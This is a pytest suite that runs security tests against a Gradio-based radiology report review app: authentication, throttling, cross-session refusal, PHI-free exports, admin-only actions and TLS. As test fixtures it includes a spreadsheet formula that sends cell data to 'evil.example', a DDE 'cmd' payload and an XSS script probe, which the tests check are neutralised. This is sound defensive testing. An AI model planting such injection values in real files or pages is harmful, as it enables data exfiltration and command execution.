"""The running app over real HTTP: logins, 401s, throttling, logout, role-scoped exports with
no PHI and no CSV formulas, admin-only controls, TLS and the refusal of plain HTTP.

The database is filled through the real CLI (import of a folder whose name and report.json
carry a patient's name and MRN, retrieval drafting, reader accounts); the app runs as a
subprocess (`launch.py`) whose output is drained to a file; calls go through Gradio's own
queue protocol with each reader's session cookie, the way the page makes them.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import socket
import sqlite3
import stat
import subprocess
import sys
import time
import uuid
from pathlib import Path

import httpx
import numpy as np
import pytest

from bench.processes import stop_process
from rrg_review.app.server import login_page
from tests.app_process import start_app
from tests.browser import sign_in, wait_for_port

ROOT = Path(__file__).resolve().parents[1]
pytestmark = pytest.mark.slow
PHI_FOLDER = "DOE_JOHN_MRN-5550001"
MRN = "5550001"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"open me")'
PASSWORDS = {"alice": "tulip-river-0451", "bob": "granite-owl-7732",
             "root": "copper-lantern-9981"}


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def cli(*args: str, stdin: str | None = None, env: dict | None = None):
    result = subprocess.run([sys.executable, "-m", "rrg_review.app.cli",
                            *args], cwd=ROOT, input=stdin,
                            capture_output=True, text=True, timeout=300,
                            env={**os.environ, "HF_HUB_OFFLINE": "1", **(env or {})})
    assert result.returncode == 0, result.stderr[-3000:]
    return result


class RunningApp:
    """launch.py in a process of its own; stdout+stderr to a log file (never a full pipe)."""

    def __init__(self, workdir: Path, *args: str, scheme: str = "http",
                 verify: bool | str = True, host: str = "127.0.0.1") -> None:
        self.port = free_port()
        self.url = f"{scheme}://127.0.0.1:{self.port}/"
        self.log_path = workdir / f"app-{self.port}.log"
        self.tmp = workdir / f"tmp-{self.port}"
        self.tmp.mkdir()
        self.log_path.write_text("")
        # `launch.py ARGS` as a fork of a process that imported the app once (tests/app_process.py)
        self.proc = start_app(["--host", host, "--port", str(self.port), *args], self.log_path,
                              {**os.environ, "HF_HUB_OFFLINE": "1", "TMPDIR": str(self.tmp)},
                              ROOT)
        deadline = time.monotonic() + 120
        wait_for_port(self.port, self.proc, deadline, self.log_path.read_text)
        while time.monotonic() < deadline:  # one request at a time, with the time left
            if self.proc.poll() is not None:
                pytest.fail(f"app exited early:\n{self.log_path.read_text()[-3000:]}")
            try:
                httpx.get(self.url + "login", timeout=max(1.0, deadline - time.monotonic()),
                          verify=verify)
                return
            except httpx.HTTPError:
                time.sleep(0.5)
        self.stop()
        pytest.fail("app did not start within 120 s")

    def stop(self) -> None:
        stop_process(self.proc)


class Tab:
    """One browser tab of one reader: its cookie jar and session hash, calling handlers the
    way the page does (POST queue/join with the fn_index, then read queue/data)."""

    def __init__(self, app: RunningApp, cookies: httpx.Cookies | None = None,
                 verify: bool | str = True) -> None:
        self.app = app
        self.http = httpx.Client(base_url=app.url, cookies=cookies, timeout=120, verify=verify)
        self.session_hash = uuid.uuid4().hex[:11]

    def login(self, name: str, password: str, **headers: str) -> httpx.Response:
        return sign_in(self.http, "", name, password, headers=headers or None)

    def config(self) -> dict:
        r = self.http.get("config")
        r.raise_for_status()
        return r.json()

    def run(self, dep: dict, values: dict[int, object], event_data: dict | None = None) -> dict:
        """Run one event (a `dependencies` entry of the page config) with the inputs given by
        component id, and wait for its result."""
        trigger = dep["targets"][0][0] if dep["targets"] else None
        return self._join({"data": [values.get(i) for i in dep["inputs"]],
                           "fn_index": dep["id"], "trigger_id": trigger,
                           "event_data": event_data, "session_hash": self.session_hash})

    def _join(self, body: dict) -> dict:
        join = self.http.post("gradio_api/queue/join", json=body)
        join.raise_for_status()
        with self.http.stream("GET", "gradio_api/queue/data",
                              params={"session_hash": self.session_hash}) as stream:
            for line in stream.iter_lines():
                if not line.startswith("data:"):
                    continue
                msg = json.loads(line[5:])
                if msg.get("msg") == "process_completed":
                    return msg
        raise AssertionError("no process_completed message")

    def call(self, trigger_elem: str, values: dict[str, object]) -> dict:
        """Run the handler bound to the element `trigger_elem` with inputs given by elem_id
        (State and other inputs not named are sent as null, as the page sends state)."""
        config = self.config()
        by_id = {c["id"]: c for c in config["components"]}
        elem = {c.get("props", {}).get("elem_id"): c["id"] for c in config["components"]}
        target = elem[trigger_elem]
        fn_index, dep = next((i, d) for i, d in enumerate(config["dependencies"])
                             if any(t[0] == target for t in d["targets"]))
        fn_index = dep.get("id", fn_index)
        data = [values.get(by_id[i].get("props", {}).get("elem_id")) for i in dep["inputs"]]
        return self._join({"data": data, "fn_index": fn_index, "trigger_id": target,
                           "event_data": None, "session_hash": self.session_hash})


def _png(path: Path, pixels: np.ndarray) -> None:
    from PIL import Image

    path.parent.mkdir(parents=True, exist_ok=True)
    Image.fromarray(pixels.astype(np.uint16)).save(path)


@pytest.fixture(scope="module")
def team(tmp_path_factory, rg1_small, database_templates):
    """Demo studies plus a folder study named after a patient with hostile report text,
    drafted by the retrieval preset; alice and bob (readers) and root (admin) have edited."""
    work = tmp_path_factory.mktemp("team")
    db = work / "team.sqlite"
    cases = work / "cases"
    _png(cases / PHI_FOLDER / "chest.png", rg1_small)
    (cases / PHI_FOLDER / "report.json").write_text(json.dumps({
        "patient_id": f"MRN-{MRN}", "study_date": "2024-03-01",
        "findings": FORMULA + " Heart size normal.", "impression": "+cmd|' /C calc'!A0",
        "indication": "@SUM(1+1) cough"}))
    _png(cases / "plain-case" / "chest.png", rg1_small[::-1])
    (cases / "plain-case" / "report.json").write_text(json.dumps({
        "patient_id": "MRN-7770002", "findings": "-2+3 Lungs clear.",
        "impression": "No acute disease."}))
    from rrg_review.app.settings import Settings
    from rrg_review.db.engine import open_database

    database_templates.copy_sqlite("demo", Settings.from_args(str(db)))  # the demo studies
    cli("import", str(cases), "--format", "folder", "--db", str(db))
    cli("draft", "--model", "retrieval", "--db", str(db))
    for name in ("alice", "bob"):
        cli("readers", "add", name, "--password-stdin", "--db", str(db),
            stdin=PASSWORDS[name] + "\n")
    cli("readers", "add", "root", "--admin", "--password-stdin", "--db", str(db),
        stdin=PASSWORDS["root"] + "\n")
    # each reader edits and rates every study through the review service
    from rrg_review.app.accounts.service import AccountService
    from rrg_review.app.drafting.service import DraftingService, RuntimeConfig
    from rrg_review.app.review.service import ReviewService
    from rrg_review.app.worklist.service import WorklistService

    database = open_database(db)
    review = ReviewService(database)
    drafting = DraftingService(database, Settings.from_args(str(db)), RuntimeConfig())
    for name in ("alice", "bob"):
        reader = AccountService(database).account(name).id
        for item in WorklistService(database).items(reader):
            draft = drafting.latest(item.study_id, "retrieval")["findings"]
            review.save(reader, item.study_id, "findings",
                        f"@{name}-secret-edit {draft.text}", None, draft_id=draft.id)
            review.rate(reader, item.study_id, likert=3, acceptable=False,
                        comment=f"=cmd {name}-secret-comment", preset="retrieval")
    database.dispose()
    app = RunningApp(work, "--db", str(db), "--login", "--no-demo", "--no-predraft")
    yield app, db, work
    app.stop()


def logged_in(app: RunningApp, name: str) -> Tab:
    tab = Tab(app)
    response = tab.login(name, PASSWORDS[name])
    assert response.status_code == 200 and response.json() == {"success": True}
    cookie = next(c for c in tab.http.cookies.jar if c.name == "rrg-session")
    assert cookie.has_nonstandard_attr("HttpOnly")
    return tab


def test_unauthenticated_calls_get_401_and_the_page_sends_to_login(team):
    app, _, _ = team
    anon = Tab(app)
    for path in ("config", "gradio_api/info", "gradio_api/queue/data?session_hash=x"):
        assert anon.http.get(path).status_code == 401, path
    join = anon.http.post("gradio_api/queue/join", json={"data": [], "fn_index": 0,
                                                          "session_hash": "x"})
    assert join.status_code == 401
    page = anon.http.get("", headers={"accept": "text/html"})
    assert page.status_code == 303 and page.headers["location"].endswith("login")
    form = anon.http.get("login")
    assert form.status_code == 200 and 'name="password"' in form.text.replace("name=password",
                                                                             'name="password"')
    forged = Tab(app, cookies=httpx.Cookies({"rrg-session": "forged-token"}))
    assert forged.http.get("config").status_code == 401


def _every_route() -> list[tuple[str, str]]:
    """(method, path) of every HTTP route of the app, read from the real FastAPI app (ours with
    Gradio's mounted in it), path parameters filled in: a route Gradio adds is covered too."""
    import gradio as gr

    from rrg_review.app.server import ServerOptions, build_app

    with gr.Blocks() as blocks:
        gr.Textbox()
    app = build_app(blocks, None, None, ServerOptions(login=True))  # routes only: never called
    found: list[tuple[str, str]] = []

    def walk(routes, prefix: str) -> None:
        for route in routes:
            included = getattr(route, "include_context", None)  # FastAPI's include_router
            if included is not None:
                walk(route.original_router.routes, prefix + included.prefix)
            elif hasattr(route, "routes") and not hasattr(route, "methods"):  # a Mount
                walk(route.routes, prefix + route.path)
            elif getattr(route, "methods", None):
                path = re.sub(r"\{[^}]+\}", "1", prefix + route.path)
                found.extend((m, path) for m in sorted(route.methods) if m != "HEAD")

    walk(app.routes, "")
    return sorted(set(found))


def test_every_route_but_the_login_form_and_static_files_needs_a_session(team):
    app, _, _ = team
    from rrg_review.app.server import is_public

    routes = _every_route()
    paths = {p for _, p in routes}
    assert {"/config", "/gradio_api/queue/join", "/gradio_api/queue/data", "/gradio_api/cancel",
            "/gradio_api/heartbeat/1", "/gradio_api/file=1", "/gradio_api/upload",
            "/gradio_api/info", "/login", "/logout"} <= paths, sorted(paths)
    anon = Tab(app)
    forged = Tab(app, cookies=httpx.Cookies({"rrg-session": "forged-token"}))
    checked = 0
    for method, path in routes:
        if is_public(path):
            continue
        for tab in (anon, forged):
            response = tab.http.request(method, path.lstrip("/"), json={}, timeout=10)
            if path in ("/", ""):
                assert response.status_code == 303, (method, path)
                assert response.headers["location"].startswith("login")
            else:
                assert response.status_code == 401, (method, path, response.status_code,
                                                      response.text[:200])
            assert "secret" not in response.text
        checked += 1
    assert checked > 40  # Gradio's API, files, queue, heartbeat, streams, monitoring, ...
    # the public ones give nothing of a reader's: the form, and the same static files for all
    assert anon.http.get("login").status_code == 200
    assert anon.http.get("logout").status_code == 200  # a form: a GET signs nobody out


def _component_values(config: dict) -> dict[int, object]:
    """Each component's value as the page would send it (a State is sent as null)."""
    return {c["id"]: (None if c.get("type") == "state" else c.get("props", {}).get("value"))
            for c in config["components"]}


def _shown(dep: dict, done: dict) -> dict[int, object]:
    """The values an event put on the page (what the page would send with the next event)."""
    return {i: v for i, v in zip(dep["outputs"], done["output"]["data"], strict=True)
            if not (isinstance(v, dict) and v.get("__type__") == "update")}


def _snapshot(db: Path) -> dict[str, list]:
    """Everything a reader's work consists of, to compare before and after an attack."""
    with sqlite3.connect(db) as conn:
        return {table: conn.execute(f"SELECT * FROM {table} ORDER BY 1").fetchall()
                for table in ("revision", "rating", "worklist_item", "section_timing", "draft")}


def test_every_event_of_the_page_refuses_another_readers_tab(team):
    """alice, with her own cookie, names bob's session hash in every event the page can
    trigger (read from the page's config: private events too, by fn_index, through the queue
    and the direct route) and in Gradio's per-tab routes: each is refused, nothing of bob's
    comes back and nothing is written."""
    app, db, _ = team
    alice, bob = logged_in(app, "alice"), logged_in(app, "bob")
    config = bob.config()
    deps = config["dependencies"]
    assert len(deps) > 30
    values = _component_values(config)
    # bob's tab opens the way the page opens it: the load events bind its state to him
    loads = [d for d in deps if any(t[1] == "load" for t in d["targets"]) and d["backend_fn"]]
    assert loads
    for dep in loads:
        done = bob.run(dep, values)
        assert done["success"], done
        values.update(_shown(dep, done))
    # ... and he opens the study from the folder named after a patient (a row click)
    table = next(c["id"] for c in config["components"] if c.get("type") == "dataframe"
                 and values.get(c["id"]) and "study" in values[c["id"]]["headers"])
    rows = values[table]["data"]
    row = next(i for i, r in enumerate(rows) if _doe_key(db) in str(r))
    select = next(d for d in deps if [table, "select"] in d["targets"])
    opened = bob.run(select, values, event_data={"index": [row, 1], "value": rows[row][1],
                                                 "row_value": rows[row], "selected": True})
    assert opened["success"] and "@bob-secret-edit" in json.dumps(opened), opened
    values.update(_shown(select, opened))
    before = _snapshot(db)
    with sqlite3.connect(db) as conn:
        audited = conn.execute("SELECT count(*) FROM audit_event").fetchone()[0]
    hostile = {c["id"]: "alice was here" for c in config["components"]
               if c.get("type") == "textbox"}
    refused = 0
    for dep in deps:
        data = [hostile.get(i, values.get(i)) for i in dep["inputs"]]
        trigger = dep["targets"][0][0] if dep["targets"] else None
        body = {"data": data, "fn_index": dep["id"], "trigger_id": trigger,
                "event_data": None, "session_hash": bob.session_hash}
        for route in ("gradio_api/queue/join", "gradio_api/run/predict"):
            response = alice.http.post(route, json=body)
            assert response.status_code == 403, (dep["id"], route, response.text[:300])
            assert "bob" not in response.text.replace("belongs to another reader", "")
            refused += 1
    hash_ = bob.session_hash
    for method, path, payload in (
            ("GET", f"gradio_api/queue/data?session_hash={hash_}", None),
            ("GET", f"gradio_api/heartbeat/{hash_}", None),
            ("GET", f"gradio_api/call/save/{hash_}", None),
            ("POST", "gradio_api/cancel", {"session_hash": hash_, "fn_index": 0,
                                           "event_id": "x"}),
            ("POST", "gradio_api/call/save", {"data": [], "session_hash": hash_})):
        response = alice.http.request(method, path, json=payload, timeout=10)
        assert response.status_code == 403, (path, response.status_code, response.text[:300])
        refused += 1
    # a form body (where the hash is not looked for) is refused off /upload; streams are off
    form = alice.http.post("gradio_api/component_server", data={
        "session_hash": hash_, "component_id": "1", "fn_name": "ls"},
        files={"data": ("d", b"x")})
    assert form.status_code == 415
    assert alice.http.get(f"gradio_api/stream/{hash_}/1/1/playlist.m3u8").status_code == 404
    assert _snapshot(db) == before  # nothing written into anyone's work
    with sqlite3.connect(db) as conn:
        rows = conn.execute("SELECT actor, action, ok, detail FROM audit_event ORDER BY id "
                            "LIMIT -1 OFFSET ?", (audited,)).fetchall()
    assert rows.count(("alice", "tab_refused", 0, "tab of bob")) == refused
    assert {r[1] for r in rows} == {"tab_refused"}
    # the refusal is about the tab, not alice: her own tab runs the same load events ...
    for dep in loads:
        mine = alice.run(dep, values)
        assert mine["success"] and "bob-secret" not in json.dumps(mine)
    # ... and bob's tab is still his, with his text
    done = bob.call("save", {"edit-findings": "bob saves again"})
    assert done["success"] and "another reader" not in json.dumps(done)


def test_saves_and_ratings_from_the_page_are_audited_with_the_browsers_address(team):
    """The page's own Save and rating (through the queue, as the browser sends them) write
    audit records that carry the client's address, like logins and exports."""
    app, db, _ = team
    carol = logged_in(app, "alice")  # a tab of alice's
    config = carol.config()
    values = _component_values(config)
    deps = config["dependencies"]
    for dep in (d for d in deps if any(t[1] == "load" for t in d["targets"])
                and d["backend_fn"]):
        done = carol.run(dep, values)
        assert done["success"], done
        values.update(_shown(dep, done))
    # every study of hers is rated already: she opens the first row again (a row click)
    table = next(c["id"] for c in config["components"] if c.get("type") == "dataframe"
                 and values.get(c["id"]) and "study" in values[c["id"]]["headers"])
    row = values[table]["data"][0]
    select = next(d for d in deps if [table, "select"] in d["targets"])
    opened = carol.run(select, values, event_data={"index": [0, 1], "value": row[1],
                                                   "row_value": row, "selected": True})
    assert opened["success"], opened
    study = int(row[0])
    with sqlite3.connect(db) as conn:
        seen = conn.execute("SELECT max(id) FROM audit_event").fetchone()[0]
    client = json.dumps({"study": study, "seq": 99, "keys": {"findings": [1.0, 2.0]}})
    saved = carol.call("save", {"edit-findings": "alice audited words", "client": client})
    assert saved["success"] and "revision" in json.dumps(saved), saved
    # (the boxes are not sent: an edit to empty text, whose suggested counts she confirms)
    rated = carol.call("rate", {"likert": 4, "client": client, "rexval-checked": True})
    assert rated["success"] and "Rated" in json.dumps(rated), rated
    with sqlite3.connect(db) as conn:
        rows = conn.execute("SELECT action, actor, address FROM audit_event WHERE id > ? AND "
                            "action IN ('save', 'rate')", (seen,)).fetchall()
    assert {r[0] for r in rows} == {"save", "rate"}, rows
    assert all(r[1] == "alice" and r[2] == "127.0.0.1" for r in rows), rows
    # queued events leave no Starlette deprecation noise in the app's log (it read like
    # rejected requests: one line per event)
    assert "is deprecated" not in app.log_path.read_text()


def test_the_login_form_keeps_a_refused_name_escaped():
    form = login_page("Incorrect username or password.", tls=False, token="t",
                      username='"><script>alert(1)</script>')
    assert "<script>" not in form and 'value="&quot;&gt;&lt;script&gt;' in form
    assert form.count("autofocus") == 1 and re.search(r"id=password [^>]*autofocus", form)
    fresh = login_page(tls=False, token="t")
    assert 'value=""' in fresh and re.search(r"id=username [^>]*autofocus", fresh)


def test_wrong_passwords_are_throttled_and_audited(team):
    app, db, _ = team
    tab = Tab(app)
    codes = [tab.login("bob", "not-the-password").status_code for _ in range(4)]
    assert codes == [401, 401, 401, 401]
    refused = tab.login("bob", PASSWORDS["bob"])  # right password, but bob must wait now
    assert refused.status_code == 429 and int(refused.headers["retry-after"]) >= 1
    assert "try again" in refused.json()["detail"]
    html = tab.login("bob", "x", accept="text/html")
    assert html.status_code == 429 and "Too many failed attempts" in html.text
    # the name stays in its box, the password box has the focus (a new-user trial typed the
    # name again after every mistyped password)
    assert re.search(r'id=username [^>]*value="bob"', html.text), html.text
    assert re.search(r"id=password [^>]*autofocus", html.text), html.text
    with sqlite3.connect(db) as conn:
        rows = conn.execute("SELECT action, address, ok FROM audit_event WHERE actor='bob' "
                            "AND action LIKE 'login%'").fetchall()
    assert rows.count(("login_failed", "127.0.0.1", 0)) == 4
    assert ("login_throttled", "127.0.0.1", 0) in rows
    time.sleep(int(refused.headers["retry-after"]) + 1.5)  # back-off over: bob may log in
    assert tab.login("bob", PASSWORDS["bob"]).status_code == 200


def test_sessions_logouts_and_throttling_survive_a_restart(team):
    """A real app process, stopped and started again on the same database: a signed-in reader
    stays signed in, a logged-out cookie stays refused, a throttled account stays throttled;
    the database holds only hashes of the session tokens."""
    _, db, work = team
    cli("readers", "add", "carol", "--password-stdin", "--db", str(db),
        stdin="amber-falcon-2210\n")
    args = ("--db", str(db), "--login", "--no-demo", "--no-predraft",
            "--login-backoff-seconds", "120")
    first = RunningApp(work, *args)
    try:
        alice, bob = logged_in(first, "alice"), logged_in(first, "bob")
        kept, dropped = (t.http.cookies.get("rrg-session") for t in (alice, bob))
        assert bob.http.post("logout").status_code == 303
        carol = Tab(first)
        assert [carol.login("carol", "wrong-guess").status_code for _ in range(4)] == [401] * 4
        assert carol.login("carol", "amber-falcon-2210").status_code == 429
    finally:
        first.stop()
    with sqlite3.connect(db) as conn:
        stored = [r[0] for r in conn.execute("SELECT token_hash FROM web_session")]
    assert hashlib.sha256(kept.encode()).hexdigest() in stored
    assert hashlib.sha256(dropped.encode()).hexdigest() not in stored
    assert not any(token in stored for token in (kept, dropped))
    second = RunningApp(work, *args)
    try:
        resumed = Tab(second, cookies=httpx.Cookies({"rrg-session": kept}))
        config = resumed.config()
        load = next(d for d in config["dependencies"] if [0, "load"] in d["targets"])
        shown = resumed.run(load, _component_values(config))  # the page opens as alice's
        assert shown["success"] and "Reader: **alice**" in json.dumps(shown)
        replay = Tab(second, cookies=httpx.Cookies({"rrg-session": dropped}))
        assert replay.http.get("config").status_code == 401
        page = replay.http.get("", headers={"accept": "text/html"})
        assert page.status_code == 303 and page.headers["location"] == "login?msg=expired"
        again = Tab(second).login("carol", "amber-falcon-2210")  # the right password, but ...
        assert again.status_code == 429, again.text
        assert 1 <= int(again.headers["retry-after"]) <= 120
        assert logged_in(second, "bob").http.get("config").status_code == 200  # others may
    finally:
        second.stop()


def _export(tab: Tab, fmt: str, mine: bool) -> tuple[str, str]:
    done = tab.call("export-button", {"export-format": fmt, "export-mine": mine})
    assert done["success"], done
    file = done["output"]["data"][0]
    body = tab.http.get(file["url"])
    assert body.status_code == 200
    return file["url"], body.text


def _doe_key(db) -> str:
    """The stored key of the study imported from the folder named after its patient."""
    with sqlite3.connect(db) as conn:
        (key,) = conn.execute("SELECT study_key FROM study WHERE indication LIKE '%SUM(1+1)%'"
                              ).fetchone()
    assert key.startswith("anon-"), key
    return key


def _assert_no_phi(text: str) -> None:
    for leak in (PHI_FOLDER, "DOE", MRN, "7770002", "plain-case"):
        assert leak not in text, leak


def test_a_readers_export_holds_only_their_own_work_without_phi_or_formulas(team):
    app, _, _ = team
    alice = logged_in(app, "alice")
    for mine in (True, False):  # unticking "Only my reviews" changes nothing for a reader
        url, text = _export(alice, "csv", mine)
        assert "alice-secret-edit" in text and "alice-secret-comment" in text
        assert "bob-secret" not in text and "bob" not in text
        _assert_no_phi(text)
        rows = list(csv.DictReader(io.StringIO(text)))
        assert rows and {r["reader"] for r in rows} == {"alice"}
        for row in rows:
            assert re.fullmatch(r"study-[0-9a-f]{12}", row["study_key"]), row["study_key"]
            for cell in row.values():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert any(r["final"].startswith("'@alice-secret-edit") for r in rows)
        assert any(r["comment"] == "'=cmd alice-secret-comment" for r in rows)
        # the download is deleted once sent
        assert alice.http.get(url).status_code in (403, 404)
    _, js = _export(alice, "json", False)
    assert "bob-secret" not in js and "alice-secret-edit" in js
    _assert_no_phi(js)
    _, page = _export(alice, "html", False)
    assert "bob-secret" not in page and "alice-secret" in page
    _assert_no_phi(page)


def test_cli_exports_and_the_audit_trail_carry_no_folder_names_unless_asked(team, tmp_path):
    """The study imported from `DOE_JOHN_MRN-5550001/` (import -> draft -> reviews -> export):
    the CLI's CSV, JSON and HTML and the RRG24 prediction/id files beside them show opaque ids;
    the stored keys (a pseudonym, for a folder) appear only when asked for (--dataset-keys,
    audited as such); the audit trail, in the table and as `rrg-review audit` prints it,
    never holds the name."""
    app, db, _ = team
    _export(logged_in(app, "alice"), "csv", True)  # audited too (and downloaded: deleted)
    plain = tmp_path / "plain"
    for fmt in ("csv", "json", "html"):
        cli("export", "--format", fmt, "--out", str(plain / f"report.{fmt}"), "--db", str(db),
            "--metrics", "bleu4", "--offline", "--bootstrap", "20")
    written = sorted(plain.iterdir())
    assert {p.suffix for p in written} >= {".csv", ".json", ".html", ".txt"}, written
    assert any(p.name.endswith(".ids.txt") for p in written)
    for path in written:
        text = path.read_text()
        _assert_no_phi(text)
        assert PHI_FOLDER not in path.name
    ids = next(p for p in written if p.name.endswith(".findings.ids.txt")).read_text()
    assert re.search(r"^folder/study-[0-9a-f]{12}$", ids, re.M), ids
    both = plain / "report.csv"
    assert "alice-secret-edit" in both.read_text() and "bob-secret-edit" in both.read_text()
    asked = tmp_path / "asked"
    cli("export", "--format", "csv", "--out", str(asked / "keys.csv"), "--dataset-keys",
        "--db", str(db), "--metrics", "bleu4", "--offline", "--bootstrap", "20")
    # the admin asked for the stored keys: the folder's is a pseudonym (folders are stored
    # under their names only when imported with --keep-folder-names)
    assert _doe_key(db) in (asked / "keys.csv").read_text()
    _assert_no_phi((asked / "keys.csv").read_text())
    with sqlite3.connect(db) as conn:
        trail = conn.execute("SELECT actor, action, target, address, detail FROM audit_event"
                             ).fetchall()
    assert len(trail) > 20 and {"save", "rate", "export", "login"} <= {r[1] for r in trail}
    assert sum(r[1] == "export" and r[4] == "dataset keys" for r in trail) == 1
    _assert_no_phi(json.dumps(trail))
    printed = cli("audit", "--limit", "100000", "--db", str(db)).stdout
    assert "\texport\t" in printed
    _assert_no_phi(printed)


def test_an_admin_exports_everyones_work_with_opaque_ids(team):
    app, db, _ = team
    root = logged_in(app, "root")
    _, text = _export(root, "csv", False)
    assert "alice-secret-edit" in text and "bob-secret-edit" in text
    _assert_no_phi(text)
    _, mine = _export(root, "csv", True)
    assert "alice-secret" not in mine and "bob-secret" not in mine
    with sqlite3.connect(db) as conn:
        exports = conn.execute("SELECT actor, target, address FROM audit_event "
                               "WHERE action='export'").fetchall()
    assert ("root", "csv: all readers", "127.0.0.1") in exports
    assert any(a == "alice" and t.startswith("csv: own work") for a, t, _ in exports)


def test_unloading_the_model_is_for_admins_only(team):
    app, _, _ = team
    refused = logged_in(app, "alice").call("unload-model", {})
    assert not refused["success"] and "admin" in json.dumps(refused)
    allowed = logged_in(app, "root").call("unload-model", {})
    assert allowed["success"], allowed


def test_reader_study_status_is_for_admins_only(team):
    """A reader's tab that sends the admins' status event (its Refresh) is answered with one
    sentence and no status; an admin's gets the status, by the server's clock."""
    app, _, _ = team
    refused = json.dumps(logged_in(app, "alice").call("study-admin-refresh", {}))
    assert "Only an admin can see the status of reader studies." in refused
    assert "Status at" not in refused and "server clock" not in refused
    allowed = logged_in(app, "root").call("study-admin-refresh", {})
    assert allowed["success"] and "Status at" in json.dumps(allowed), allowed

def test_logout_ends_the_session_on_the_server(team):
    app, db, _ = team
    alice = logged_in(app, "alice")
    cookie = alice.http.cookies.get("rrg-session")
    page = alice.http.get("config")
    # the page's "Log out" button (it saves pending text, then goes to /logout)
    assert page.status_code == 200 and '"elem_id":"logout"' in page.text.replace(" ", "")
    assert alice.http.get("logout").status_code == 200  # a GET signs nobody out
    assert alice.http.get("config").status_code == 200
    out = alice.http.post("logout")
    assert out.status_code == 303 and out.headers["location"].startswith("login")
    replay = Tab(app, cookies=httpx.Cookies({"rrg-session": cookie}))
    assert replay.http.get("config").status_code == 401
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT count(*) FROM audit_event WHERE action='logout' AND "
                            "actor='alice'").fetchone()[0] == 1


def test_pseudonyms_in_the_database_and_private_runtime_files(team):
    app, db, _work = team
    with sqlite3.connect(db) as conn:
        keys = [r[0] for r in conn.execute("SELECT key FROM patient")]
        studies = conn.execute("SELECT count(*) FROM study").fetchone()[0]
    assert studies == 6 and all(k.startswith("anon-") for k in keys)
    assert not any(MRN in k for k in keys)
    key_file = db.with_name(db.name + ".key")
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    assert stat.S_IMODE(db.stat().st_mode) & 0o077 == 0
    runtime = list(app.tmp.glob("rrg-review-run-*"))
    assert len(runtime) == 1 and stat.S_IMODE(runtime[0].stat().st_mode) == 0o700
    leftovers = [p for p in runtime[0].rglob("*") if p.is_file()
                 and p.name.startswith("rrg-review-report") and "gradio" in str(p)]
    assert leftovers == []  # downloaded exports were deleted
    assert list((runtime[0] / "exports").glob("export-*")) == []  # and their spool folders


def test_plain_http_beyond_loopback_is_refused(tmp_path):
    result = subprocess.run([sys.executable, "launch.py", "--host", "0.0.0.0", "--db",
                             str(tmp_path / "x.sqlite")], cwd=ROOT, capture_output=True,
                            text=True, timeout=60)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert result.stderr.count("\n") == 1 and "plain HTTP" in result.stderr
    assert not (tmp_path / "x.sqlite").exists()  # refused before touching anything
    bad = subprocess.run([sys.executable, "launch.py", "--host", "0.0.0.0", "--ssl-certfile",
                          str(tmp_path / "none.pem"), "--ssl-keyfile", str(tmp_path / "k.pem"),
                          "--db", str(tmp_path / "x.sqlite")], cwd=ROOT, capture_output=True,
                         text=True, timeout=60)
    assert bad.returncode == 2 and "does not exist" in bad.stderr and "Traceback" not in \
        bad.stderr


def test_tls_with_a_self_signed_certificate(team, tmp_path):
    _, db, work = team
    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
    made = subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes",
                           "-keyout", str(key), "-out", str(cert), "-days", "1", "-subj",
                           "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1"],
                          capture_output=True, text=True)
    if made.returncode != 0:
        pytest.skip(f"openssl could not make a certificate: {made.stderr[-300:]}")
    mismatched = tmp_path / "other.pem"
    subprocess.run(["openssl", "genrsa", "-out", str(mismatched), "2048"], capture_output=True)
    wrong = subprocess.run([sys.executable, "launch.py", "--host", "0.0.0.0", "--ssl-certfile",
                            str(cert), "--ssl-keyfile", str(mismatched), "--db", str(db)],
                           cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert wrong.returncode == 2 and "cannot be used together" in wrong.stderr
    app = RunningApp(work, "--db", str(db), "--no-demo", "--no-predraft", "--ssl-certfile",
                     str(cert), "--ssl-keyfile", str(key), "--session-idle-minutes", "0.05",
                     scheme="https", verify=str(cert), host="0.0.0.0")
    try:
        with pytest.raises(httpx.HTTPError):  # plain HTTP on the TLS port gets nowhere
            httpx.get(f"http://127.0.0.1:{app.port}/config", timeout=5)
        tab = Tab(app, verify=str(cert))
        assert tab.http.get("config").status_code == 401
        login = tab.login("root", PASSWORDS["root"])
        assert login.status_code == 200
        assert "secure" in login.headers["set-cookie"].lower()
        assert "samesite=strict" in login.headers["set-cookie"].lower()
        assert login.headers["strict-transport-security"].startswith("max-age=")
        assert tab.http.get("config").status_code == 200
        time.sleep(3.5)  # --session-idle-minutes 0.05: 3 s without a request ends the session
        assert tab.http.get("config").status_code == 401
        page = tab.http.get("", headers={"accept": "text/html"})
        assert page.status_code == 303 and page.headers["location"] == "login?msg=expired"
    finally:
        app.stop()
    # SIGTERM shuts down cleanly: exit 0 and the private run folder (exports, caches) is gone
    assert app.proc.returncode == 0, app.log_path.read_text()[-2000:]
    assert list(app.tmp.glob("rrg-review-run-*")) == []
